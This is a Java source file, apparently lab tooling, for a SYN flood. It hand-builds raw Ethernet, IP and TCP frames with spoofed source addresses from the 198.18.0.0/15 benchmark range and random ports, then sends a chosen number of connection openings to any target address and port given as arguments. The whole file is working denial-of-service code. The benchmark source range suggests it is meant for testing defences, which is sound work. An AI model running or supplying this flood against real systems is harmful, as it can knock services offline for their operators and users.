package proa.vip.lab;

import proa.vip.linux.FrameSocket;

import java.net.InetAddress;
import java.net.NetworkInterface;
import java.nio.ByteBuffer;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/**
 * Beginnings of TCP connections from hosts that are not there, as raw frames: each from another
 * address of 198.18.0.0/15 (RFC 2544) and another port. Prints {@code flooding} before the first
 * and {@code sent N} after the last.
 */
public final class SynFlood {

    private static final int FRAME_BYTES = 54;
    private static final int PAUSE_EACH = 100;
    private static final long PAUSE_NANOS = 2_000_000;

    private SynFlood() {}

    /**
     * Runs until all are sent.
     *
     * @param arguments interface, its hardware address's and the target's last bytes, target
     *     address, port, how many
     */
    public static void main(String[] arguments) throws Exception {
        int count = Integer.parseInt(arguments[5]);
        Random random = new Random(count);
        NetworkInterface device = NetworkInterface.getByName(arguments[0]);
        byte[] target = InetAddress.ofLiteral(arguments[3]).getAddress();
        int port = Integer.parseInt(arguments[4]);
        try (FrameSocket socket = FrameSocket.arp(device.getIndex())) {
            System.out.println("flooding");
            for (int sent = 0; sent < count; sent++) {
                int source = 198 << 24 | 18 << 16 | random.nextInt(1 << 17);
                socket.send(frame(arguments, source, random.nextInt(1 << 16), target, port));
                if (sent % PAUSE_EACH == 0) {
                    LockSupport.parkNanos(PAUSE_NANOS); // the interface's queue is short
                }
            }
        }
        System.out.println("sent " + count);
    }

    private static byte[] frame(
            String[] arguments, int source, int sourcePort, byte[] target, int port) {
        ByteBuffer frame = ByteBuffer.allocate(FRAME_BYTES);
        mac(frame, arguments[2]);
        mac(frame, arguments[1]);
        frame.putShort((short) 0x0800);
        frame.putShort((short) 0x4500).putShort((short) 40).putInt(0);
        frame.put((byte) 64).put((byte) 6).putShort((short) 0).putInt(source).put(target);
        frame.putShort(24, (short) sum(frame, 14, 34, 0));
        frame.putShort((short) sourcePort).putShort((short) port).putInt(sourcePort).putInt(0);
        frame.putShort((short) 0x5002).putShort((short) 64_000).putInt(0);
        frame.putShort(50, (short) sum(frame, 26, FRAME_BYTES, 6 + 20));
        return frame.array();
    }

    private static void mac(ByteBuffer frame, String last) {
        frame.putInt(0x02000000).put((byte) 0).put((byte) Integer.parseInt(last));
    }

    /** The checksum of the internet (RFC 1071) over whole words, with what is not in the frame. */
    private static int sum(ByteBuffer frame, int from, int to, int more) {
        int sum = more;
        for (int at = from; at < to; at += 2) {
            sum += frame.getShort(at) & 0xffff;
        }
        sum = (sum & 0xffff) + (sum >>> 16);
        return ~(sum + (sum >>> 16));
    }
}
